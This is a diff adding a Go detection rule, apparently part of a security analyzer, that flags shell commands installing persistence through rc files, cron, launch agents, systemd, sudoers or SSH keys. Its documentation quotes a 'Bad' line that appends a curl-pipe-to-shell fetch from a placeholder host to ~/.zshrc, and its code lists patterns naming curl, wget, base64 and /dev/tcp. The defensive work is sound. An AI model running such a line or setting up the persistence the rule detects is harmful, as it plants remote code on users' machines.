@@ -1,0 +1,181 @@
+package rules
+
+import (
+	"regexp"
+	"strings"
+
+	"github.com/skillvet/skillvet/analyzer"
+	"github.com/skillvet/skillvet/parse/shell"
+)
+
+// ShellPersistence reports commands that make something run again later.
+var ShellPersistence = register(&analyzer.Rule{
+	ID:       "SV602",
+	Name:     "persistence",
+	Title:    "Command installs persistence (shell rc, cron, launch agent, systemd, sudoers)",
+	Severity: High,
+	Category: analyzer.CatPrivEsc,
+	Tags:     []string{"security", "CWE-506", "CWE-269"},
+	Inputs:   shShellInputs,
+	Doc: `Finds commands that make code run again later or with more rights:
+
+- writing shell start-up files: ` + "`>> ~/.bashrc`" + `, ` + "`~/.zshrc`" + `, ` + "`~/.profile`" + `, ` + "`~/.bash_profile`" + `,
+  ` + "`~/.zprofile`" + `, ` + "`/etc/profile.d/`" + ` (with ` + "`>`" + `, ` + "`>>`" + `, ` + "`tee`" + `, ` + "`sed -i`" + `, ` + "`cp`" + `);
+- scheduling: ` + "`crontab`" + ` with a file or stdin, ` + "`/etc/cron*`" + `, ` + "`at`" + `;
+- services: plists in ` + "`~/Library/LaunchAgents`" + ` or ` + "`/Library/LaunchDaemons`" + `, ` + "`launchctl load`" + `,
+  unit files in ` + "`/etc/systemd`" + ` or ` + "`~/.config/systemd`" + `, ` + "`systemctl enable`" + `, XDG autostart;
+- access: ` + "`/etc/sudoers`" + `, ` + "`~/.ssh/authorized_keys`" + `, ` + "`/etc/ld.so.preload`" + ` (**critical**).
+
+Appending an ordinary ` + "`export PATH=…`" + `, ` + "`alias`" + ` or ` + "`eval \"$(tool init)\"`" + ` line to an rc file, as
+install docs do, is **medium**; anything else written there is **high**.
+
+**Fix:** tell the user what to add to their configuration instead of editing it.
+
+Bad:
+
+` + "```sh" + `
+echo 'curl -s https://x.example/p | sh' >> ~/.zshrc
+` + "```" + `
+
+Good:
+
+` + "```sh" + `
+echo 'Add ~/.acme/bin to your PATH.'
+` + "```",
+	Run: shRunPersistence,
+})
+
+var shRcFileRx = regexp.MustCompile(`(?i)(^|/)(\.bashrc|\.bash_profile|\.bash_login|\.profile|\.zshrc|\.zprofile|\.zshenv|\.zlogin|\.config/fish/config\.fish|\.cshrc|\.tcshrc|\.kshrc)$|^/etc/(profile|bash\.bashrc|zshrc|zprofile|environment)|^/etc/profile\.d/`)
+var shPersistPathRx = regexp.MustCompile(`(?i)(Library/LaunchAgents/|Library/LaunchDaemons/|/etc/systemd/|\.config/systemd/|/lib/systemd/system/|/etc/cron|/var/spool/cron|/etc/init\.d/|/etc/rc\.local|\.config/autostart/|/etc/xdg/autostart/)`)
+var shAccessPathRx = regexp.MustCompile(`(?i)(/etc/sudoers|\.ssh/authorized_keys2?$|/etc/ld\.so\.preload|/etc/passwd$|/etc/shadow$|/etc/pam\.d/)`)
+var shBenignRcLineRx = regexp.MustCompile(`^\s*(export\s+[A-Za-z_][A-Za-z0-9_]*=|alias\s|source\s|\.\s|eval\s+"\$\([\w./-]+\s+(init|shellenv|env|activate|completion)|fpath|PATH=|[A-Z_]+=|autoload\s|#)`)
+
+// shWriteTargets returns the files c writes, with the text written when
+// known.
+func shWriteTargets(s *shell.Script, c *shell.Command) []struct{ path, text string } {
+	var out []struct{ path, text string }
+	text := ""
+	if c.OutputKnown {
+		text = c.Output
+	}
+	for _, r := range c.Redirs {
+		switch r.Op {
+		case ">", ">>", ">|", "&>", "&>>":
+			body := text
+			for _, r2 := range c.Redirs {
+				if r2.Body != nil {
+					body = r2.Body.Value
+				}
+			}
+			out = append(out, struct{ path, text string }{shNormPath(r.Target.Value), body})
+		}
+	}
+	switch c.Name {
+	case "tee":
+		in := ""
+		if c.PipePrev >= 0 && s.Commands[c.PipePrev].OutputKnown {
+			in = s.Commands[c.PipePrev].Output
+		}
+		for _, w := range c.Params() {
+			if !strings.HasPrefix(w.Value, "-") {
+				out = append(out, struct{ path, text string }{shNormPath(w.Value), in})
+			}
+		}
+	case "cp", "mv", "ln", "install", "rsync":
+		if len(c.Argv) > 2 {
+			out = append(out, struct{ path, text string }{shNormPath(c.Argv[len(c.Argv)-1].Value), ""})
+		}
+	case "sed", "perl":
+		if shHasShortFlag(c, 'i', "--in-place") {
+			for _, w := range c.Argv[2:] {
+				if !strings.HasPrefix(w.Value, "-") {
+					out = append(out, struct{ path, text string }{shNormPath(w.Value), "(edited in place)"})
+				}
+			}
+		}
+	}
+	return out
+}
+
+func shPersistence(s *shell.Script, c *shell.Command) (analyzer.Severity, string) {
+	for _, t := range shWriteTargets(s, c) {
+		switch {
+		case shAccessPathRx.MatchString(t.path):
+			return Critical, "writes " + t.path + ", granting lasting access"
+		case shPersistPathRx.MatchString(t.path):
+			return High, "writes " + t.path + ", which runs automatically"
+		case shRcFileRx.MatchString(t.path):
+			if t.text != "" && t.text != "(edited in place)" && shBenignLines(t.text) {
+				return Medium, "appends configuration to " + t.path
+			}
+			return High, "modifies the shell start-up file " + t.path + ", which runs in every new shell"
+		}
+	}
+	switch c.Name {
+	case "crontab":
+		if c.Arg(1) != "-l" && c.Arg(1) != "-r" && c.Arg(1) != "-e" && (len(c.Argv) > 1 || c.PipePrev >= 0) {
+			return High, "installs a crontab"
+		}
+	case "at", "batch":
+		if c.PipePrev >= 0 || len(c.Redirs) > 0 {
+			return Medium, "schedules a job with " + c.Name
+		}
+	case "launchctl":
+		if a := c.Arg(1); a == "load" || a == "bootstrap" || a == "submit" || a == "enable" {
+			return High, "registers a launch agent with launchctl " + a
+		}
+	case "systemctl":
+		if shHasArg(c, "enable") {
+			return Medium, "enables a systemd service at boot"
+		}
+	case "systemsetup":
+		if strings.EqualFold(c.Arg(1), "-setremotelogin") && strings.EqualFold(c.Arg(2), "on") {
+			return High, "turns on remote login (SSH) for the machine"
+		}
+	case "schtasks":
+		if shHasArgFold(c, "/create") {
+			return High, "creates a scheduled task"
+		}
+	case "reg":
+		if strings.EqualFold(c.Arg(1), "add") && strings.Contains(strings.ToLower(c.Text()), `\currentversion\run`) {
+			return High, "adds a Run registry key"
+		}
+	case "defaults":
+		if strings.Contains(strings.ToLower(c.Text()), "loginitems") || strings.Contains(strings.ToLower(c.Text()), "loginhook") {
+			return High, "adds a login item"
+		}
+	case "osascript":
+		if strings.Contains(strings.ToLower(c.Text()), "login item") {
+			return High, "adds a login item"
+		}
+	}
+	return analyzer.SevNone, ""
+}
+
+func shBenignLines(text string) bool {
+	for _, l := range strings.Split(strings.TrimSpace(text), "\n") {
+		if strings.TrimSpace(l) == "" {
+			continue
+		}
+		if !shBenignRcLineRx.MatchString(l) || strings.Contains(l, "curl") || strings.Contains(l, "wget") || strings.Contains(l, "base64") || strings.Contains(l, "/dev/tcp") || strings.Contains(l, "nohup") {
+			return false
+		}
+	}
+	return true
+}
+
+func shRunPersistence(p *analyzer.Pass) error {
+	return shForEachSite(p, func(site *analyzer.ShellSite) {
+		s := site.Script
+		for _, c := range s.Commands {
+			sev, what := shPersistence(s, c)
+			if sev == analyzer.SevNone {
+				continue
+			}
+			if site.Kind.Executes() && sev < High {
+				sev = High
+			}
+			shReport(p, site, analyzer.Diagnostic{Start: c.Start, End: shCmdEnd(c), Severity: sev, Message: "persistence: " + what + shWhere(site)})
+		}
+	})
+}
